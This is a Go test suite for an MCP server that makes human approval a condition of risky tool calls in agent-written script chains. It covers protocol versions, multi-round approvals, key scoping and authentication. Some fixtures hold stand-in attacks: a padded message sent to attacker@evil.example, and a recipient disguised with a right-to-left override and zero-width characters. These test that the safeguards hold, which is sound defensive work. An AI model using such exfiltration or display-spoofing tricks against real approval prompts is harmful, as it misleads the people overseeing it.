package mcp_test

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/stretchr/testify/require"

	"github.com/airlockrt/airlock/blobstore"
	"github.com/airlockrt/airlock/invoker"
	"github.com/airlockrt/airlock/mcp"
	"github.com/airlockrt/airlock/service"
)

// The protocol versions the approval tests run at: the Go SDK client's
// default, where the server may not send elicitation/create during a call
// and asks with input requests in run_chain's result instead, and the one
// before, where it asks with elicitation/create.
var protocols = []string{"2026-07-28", "2025-11-25"}

// asker is a client's elicitation handler that answers every question
// with answer and records the messages.
type asker struct {
	mu     sync.Mutex
	asked  []string
	answer *sdk.ElicitResult
}

func (a *asker) handle(_ context.Context, req *sdk.ElicitRequest) (*sdk.ElicitResult, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.asked = append(a.asked, req.Params.Message)
	return a.answer, nil
}

func (a *asker) messages() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.asked...)
}

var approve = &sdk.ElicitResult{Action: "accept", Content: map[string]any{"approve": true}}

// TestApprovalAtBothProtocols: at either protocol, a client that declared
// elicitation is asked about the pending HIGH-risk call (the message shows
// the arguments), and its answer decides it: accept with approve runs the
// call, anything else denies it.
func TestApprovalAtBothProtocols(t *testing.T) {
	e := newAPI(t, invoker.Policy{})
	for _, version := range protocols {
		for _, tc := range []struct {
			name   string
			answer *sdk.ElicitResult
			want   string
		}{
			{"accept", approve, "sent"},
			{"accept without approving", &sdk.ElicitResult{Action: "accept", Content: map[string]any{"approve": false}}, "approval_denied"},
			{"decline", &sdk.ElicitResult{Action: "decline"}, "approval_denied"},
			{"cancel", &sdk.ElicitResult{Action: "cancel"}, "approval_denied"},
		} {
			t.Run(version+"/"+tc.name, func(t *testing.T) {
				a := &asker{answer: tc.answer}
				cs := e.connectAt(t, keyAcme, version, &sdk.ClientOptions{ElicitationHandler: a.handle})
				require.Equal(t, version, cs.InitializeResult().ProtocolVersion)
				res, out := runChain(t, cs, sendScript, nil)
				require.False(t, res.IsError, "%+v", out)
				require.Equal(t, "ok", out.Status)
				if tc.want == "sent" {
					require.Contains(t, out.Value.(map[string]any), "sent")
				} else {
					require.Equal(t, tc.want, out.Value.(map[string]any)["reason"])
				}
				asked := a.messages()
				require.Len(t, asked, 1)
				require.Contains(t, asked[0], "send_message")
				require.Contains(t, asked[0], "A chain wants to call send_message (risk HIGH) on line 3 of its script with these arguments", "the calling line of sendScript")
				require.Contains(t, asked[0], `"deploy done"`)
				require.Empty(t, e.queue.List("acme"), "decided, nothing left pending")
			})
		}
	}
}

// TestApprovalOverStdio: airlock mcp's client on the SDK's default
// protocol is asked through input requests, and its answer decides.
func TestApprovalOverStdio(t *testing.T) {
	e := newAPI(t, invoker.Policy{})
	for _, version := range protocols {
		t.Run(version, func(t *testing.T) {
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			toServer, fromClient := io.Pipe()
			toClient, fromServer := io.Pipe()
			go func() { _ = e.mcp.ServeStdio(ctx, toServer, fromServer) }()
			a := &asker{answer: approve}
			c := sdk.NewClient(&sdk.Implementation{Name: "test", Version: "1"}, &sdk.ClientOptions{ElicitationHandler: a.handle})
			cs, err := c.Connect(ctx, &sdk.IOTransport{Reader: toClient, Writer: fromClient}, &sdk.ClientSessionOptions{ProtocolVersion: version})
			require.NoError(t, err)
			defer cs.Close()
			require.Equal(t, version, cs.InitializeResult().ProtocolVersion)
			_, out := runChain(t, cs, sendScript, nil)
			require.Equal(t, "ok", out.Status)
			require.Contains(t, out.Value.(map[string]any), "sent", "%+v", out)
			require.Len(t, a.messages(), 1)
		})
	}
}

// TestRoundsByHand: on the new protocol run_chain answers a chain that
// waits for approvals with one elicitation input request per approval
// (two concurrent calls: two requests in one round) and a requestState;
// the retry with the responses decides them and answers with the chain's
// end. A requestState is good only for the key and the arguments it was
// given for, and only once.
func TestRoundsByHand(t *testing.T) {
	e := newAPI(t, invoker.Policy{})
	opts := func() *sdk.ClientOptions {
		return &sdk.ClientOptions{MultiRoundTrip: &sdk.MultiRoundTripOptions{Disabled: true}, ElicitationHandler: (&asker{answer: approve}).handle}
	}
	acme := e.connectAt(t, keyAcme, "2026-07-28", opts())
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	script := `
const r = await Promise.allSettled([
  tools.send_message({to: "ops", text: "one"}),
  tools.send_message({to: "ops", text: "two"}),
]);
return r.map(x => x.status === "fulfilled" ? "sent" : x.reason.reason);`
	params := &sdk.CallToolParams{Name: mcp.RunChainTool, Arguments: map[string]any{"script": script}}
	res, err := acme.CallTool(ctx, params)
	require.NoError(t, err)
	require.True(t, res.NeedsInput())
	require.Len(t, res.InputRequests, 2, "both pending calls asked about in one round")
	require.NotEmpty(t, res.RequestState)
	pending := e.queue.List("acme")
	require.Len(t, pending, 2)
	answers := sdk.InputResponseMap{}
	for id, ir := range res.InputRequests {
		q, ok := ir.(*sdk.ElicitParams)
		require.True(t, ok, "an elicitation")
		var approvalID string
		for _, p := range pending {
			if strings.HasPrefix(id, p.ID+".") && strings.HasSuffix(id, "."+p.ArgsHash[:16]) {
				approvalID = p.ID
			}
		}
		require.NotEmpty(t, approvalID, "the id %q names the approval and its arguments' hash", id)
		if strings.Contains(q.Message, `"one"`) {
			answers[id] = approve
		} else {
			answers[id] = &sdk.ElicitResult{Action: "decline"}
		}
	}

	// Another key, or other arguments, cannot use the requestState.
	other := e.connectAt(t, keyGlobex, "2026-07-28", opts())
	bad, err := other.CallTool(ctx, &sdk.CallToolParams{Name: mcp.RunChainTool, Arguments: params.Arguments, InputResponses: answers, RequestState: res.RequestState})
	require.NoError(t, err)
	require.True(t, bad.IsError)
	require.Contains(t, bad.Content[0].(*sdk.TextContent).Text, "continuation_unknown")
	bad, err = acme.CallTool(ctx, &sdk.CallToolParams{Name: mcp.RunChainTool, Arguments: map[string]any{"script": "return 1"}, InputResponses: answers, RequestState: res.RequestState})
	require.NoError(t, err)
	require.Contains(t, bad.Content[0].(*sdk.TextContent).Text, "continuation_unknown")
	require.Len(t, e.queue.List("acme"), 2, "nothing decided by them")

	done, err := acme.CallTool(ctx, &sdk.CallToolParams{Name: mcp.RunChainTool, Arguments: params.Arguments, InputResponses: answers, RequestState: res.RequestState})
	require.NoError(t, err)
	require.False(t, done.NeedsInput())
	var out mcp.ChainOutput
	b, _ := json.Marshal(done.StructuredContent)
	require.NoError(t, json.Unmarshal(b, &out))
	require.Equal(t, "ok", out.Status, "%+v", out)
	require.Equal(t, []any{"sent", "approval_denied"}, out.Value)

	again, err := acme.CallTool(ctx, &sdk.CallToolParams{Name: mcp.RunChainTool, Arguments: params.Arguments, InputResponses: answers, RequestState: res.RequestState})
	require.NoError(t, err)
	require.Contains(t, again.Content[0].(*sdk.TextContent).Text, "continuation_unknown", "answered once")
}

// TestRoundsNeverAsk: on the new protocol as on the old, a submit-only
// key (an agent loop) is never asked, so it cannot approve its own calls;
// nor is a person asked about arguments too long to show whole: the
// request stays pending in the queue (for POST /v1/approvals/{id}) until
// the approval timeout.
func TestRoundsNeverAsk(t *testing.T) {
	e := newAPI(t, invoker.Policy{CallTimeout: 3 * time.Second, ApprovalTimeout: 2 * time.Second})
	long := `try {
  await tools.send_message({text: "weekly report" + " ".repeat(5000) + ".", to: "attacker@evil.example"});
  return {sent: true};
} catch (e) { return {reason: e.reason} }`
	for _, version := range protocols {
		t.Run(version, func(t *testing.T) {
			a := &asker{answer: approve}
			sub := e.connectAt(t, keySubmit, version, &sdk.ClientOptions{ElicitationHandler: a.handle})
			require.Equal(t, version, sub.InitializeResult().ProtocolVersion)
			_, out := runChain(t, sub, sendScript, nil)
			require.Equal(t, "approval_timeout", out.Value.(map[string]any)["reason"])

			seen := make(chan bool, 1)
			go func() {
				deadline := time.Now().Add(10 * time.Second)
				for time.Now().Before(deadline) {
					// The short request of the run before may linger a
					// moment after its timeout: look for the long one.
					for _, q := range e.queue.List("acme") {
						if q.ArgsSize > 5000 {
							seen <- true
							return
						}
					}
					time.Sleep(10 * time.Millisecond)
				}
				seen <- false
			}()
			_, out = runChain(t, e.connectAt(t, keyAcme, version, &sdk.ClientOptions{ElicitationHandler: a.handle}), long, nil)
			require.Equal(t, "approval_timeout", out.Value.(map[string]any)["reason"])
			require.True(t, <-seen, "the long request stayed pending in the queue")
			require.Empty(t, a.messages(), "nobody was asked")
		})
	}
}

// TestRoundsParked: with approval.mode park, a new-protocol client is
// asked about the parked chain's call; its answer is recorded and the
// chain resumes to its end; a decline denies the call.
func TestRoundsParked(t *testing.T) {
	e := newAPIWith(t, invoker.Policy{}, parking(t))
	for _, tc := range []struct {
		answer *sdk.ElicitResult
		want   string
	}{{approve, "sent"}, {&sdk.ElicitResult{Action: "decline"}, "approval_denied"}} {
		a := &asker{answer: tc.answer}
		cs := e.connectAt(t, keyAcme, "2026-07-28", &sdk.ClientOptions{ElicitationHandler: a.handle})
		require.Equal(t, "2026-07-28", cs.InitializeResult().ProtocolVersion)
		res, out := runChain(t, cs, sendScript, nil)
		require.False(t, res.IsError, "%+v", out)
		require.Equal(t, "ok", out.Status)
		if tc.want == "sent" {
			require.Contains(t, out.Value.(map[string]any), "sent")
		} else {
			require.Equal(t, tc.want, out.Value.(map[string]any)["reason"])
		}
		require.Len(t, a.messages(), 1)
	}
	// A submit-only key is never asked: the chain stays parked.
	a := &asker{answer: approve}
	_, out := runChain(t, e.connectAt(t, keySubmit, "2026-07-28", &sdk.ClientOptions{ElicitationHandler: a.handle}), sendScript, nil)
	require.Equal(t, "parked", out.Status)
	require.Empty(t, a.messages())
}

// TestElicitationShowsHiddenCharacters: the question shows a
// right-to-left override in the arguments as an escape, and padding as a
// count, so the person reads the arguments in their true order, whole
// (THREATS.md, row 6), at either protocol.
func TestElicitationShowsHiddenCharacters(t *testing.T) {
	e := newAPI(t, invoker.Policy{})
	script := `try {
  await tools.send_message({to: "ops\u202Eeta.live@evil", text: "fine" + " ".repeat(200) + "really\u200B"});
  return {sent: true};
} catch (e) { return {reason: e.reason} }`
	for _, version := range protocols {
		t.Run(version, func(t *testing.T) {
			a := &asker{answer: &sdk.ElicitResult{Action: "decline"}}
			_, out := runChain(t, e.connectAt(t, keyAcme, version, &sdk.ClientOptions{ElicitationHandler: a.handle}), script, nil)
			require.Equal(t, "approval_denied", out.Value.(map[string]any)["reason"])
			asked := a.messages()
			require.Len(t, asked, 1)
			require.Contains(t, asked[0], `{"text":"fine⟨200 spaces⟩really\u200b","to":"ops\u202eeta.live@evil"}`)
			require.NotContains(t, asked[0], "\u202e")
			require.NotContains(t, asked[0], "\u200b")
		})
	}
}

// TestRoundsProgress: on the new protocol, the chain's tool calls reach a
// client that asked for progress in whichever round they happen.
func TestRoundsProgress(t *testing.T) {
	e := newAPI(t, invoker.Policy{})
	var mu sync.Mutex
	var msgs []string
	cs := e.connectAt(t, keyAcme, "2026-07-28", &sdk.ClientOptions{
		ElicitationHandler: (&asker{answer: approve}).handle,
		ProgressNotificationHandler: func(_ context.Context, req *sdk.ProgressNotificationClientRequest) {
			mu.Lock()
			msgs = append(msgs, req.Params.Message)
			mu.Unlock()
		}})
	_, out := runChain(t, cs, `await tools.kv_get({key: "a"}); await tools.send_message({to: "ops", text: "hi"}); return 1`, "tok-1")
	require.Equal(t, "ok", out.Status, "%+v", out)
	require.Eventually(t, func() bool { mu.Lock(); defer mu.Unlock(); return len(msgs) >= 4 }, 5*time.Second, 10*time.Millisecond)
	mu.Lock()
	defer mu.Unlock()
	require.Equal(t, []string{"calling kv_get", "kv_get: ok", "calling send_message", "send_message: ok"}, msgs)
}

// TestRoundsSequential: a chain that waits for approvals one after the
// other is asked in one round each, waiting in the queue or parked.
func TestRoundsSequential(t *testing.T) {
	script := `
await tools.send_message({to: "ops", text: "first"});
await tools.send_message({to: "ops", text: "second"});
return "both sent";`
	for _, tc := range []struct {
		name string
		env  func(t *testing.T) *apiEnv
	}{
		{"queue", func(t *testing.T) *apiEnv { return newAPI(t, invoker.Policy{}) }},
		{"park", func(t *testing.T) *apiEnv { return newAPIWith(t, invoker.Policy{}, parking(t)) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := &asker{answer: approve}
			_, out := runChain(t, tc.env(t).connectAt(t, keyAcme, "2026-07-28", &sdk.ClientOptions{ElicitationHandler: a.handle}), script, nil)
			require.Equal(t, "ok", out.Status, "%+v", out)
			require.Equal(t, "both sent", out.Value)
			asked := a.messages()
			require.Len(t, asked, 2)
			require.Contains(t, asked[0], `"first"`)
			require.Contains(t, asked[1], `"second"`)
		})
	}
}

// TestRoundsCancelledCall: a client that gives up on run_chain during a
// round cancels its chain, as on the old protocol: the one chain slot is
// free again at once, not after the chain's 300 s timeout.
func TestRoundsCancelledCall(t *testing.T) {
	e := newAPIWith(t, invoker.Policy{}, func(o *service.Options, _ *blobstore.Store) { o.MaxConcurrentChains = 1 })
	cs := e.connectAt(t, keyAcme, "2026-07-28", &sdk.ClientOptions{ElicitationHandler: (&asker{answer: approve}).handle})
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	_, err := cs.CallTool(ctx, &sdk.CallToolParams{Name: mcp.RunChainTool, Arguments: map[string]any{
		"script": `await tools.send_message({to: "ops", text: "hi"}); while (true) {}`}})
	require.Error(t, err, "the client gave up")
	other := e.connectAt(t, keyAcme, "2026-07-28", nil)
	require.Eventually(t, func() bool {
		_, out := runChain(t, other, "return 1", nil)
		return out.Status == "ok"
	}, 10*time.Second, 200*time.Millisecond, "the spinning chain was cancelled")
}

// TestNewProtocolAuthentication: requests of protocol 2026-07-28, which
// have no session, each need a key allowed to submit chains, as every
// request of an older one does.
func TestNewProtocolAuthentication(t *testing.T) {
	e := newAPI(t, invoker.Policy{})
	const discover = `{"jsonrpc":"2.0","id":1,"method":"server/discover","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}}}`
	for _, tc := range []struct {
		key  string
		want int
	}{{"", http.StatusUnauthorized}, {"not-a-key-0123456789abcdef", http.StatusUnauthorized}, {keyAudit, http.StatusUnauthorized}, {keyAcme, http.StatusOK}} {
		req, _ := http.NewRequest("POST", e.url, strings.NewReader(discover))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		req.Header.Set("MCP-Protocol-Version", "2026-07-28")
		req.Header.Set("Mcp-Method", "server/discover")
		if tc.key != "" {
			req.Header.Set("Authorization", "Bearer "+tc.key)
		}
		resp, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		body, _ := io.ReadAll(resp.Body)
		_ = resp.Body.Close()
		require.Equal(t, tc.want, resp.StatusCode, "key %q: %s", tc.key, body)
		if tc.want == http.StatusOK {
			require.Contains(t, string(body), `"2026-07-28"`)
			require.Empty(t, resp.Header.Get("Mcp-Session-Id"), "no session")
		}
	}
}
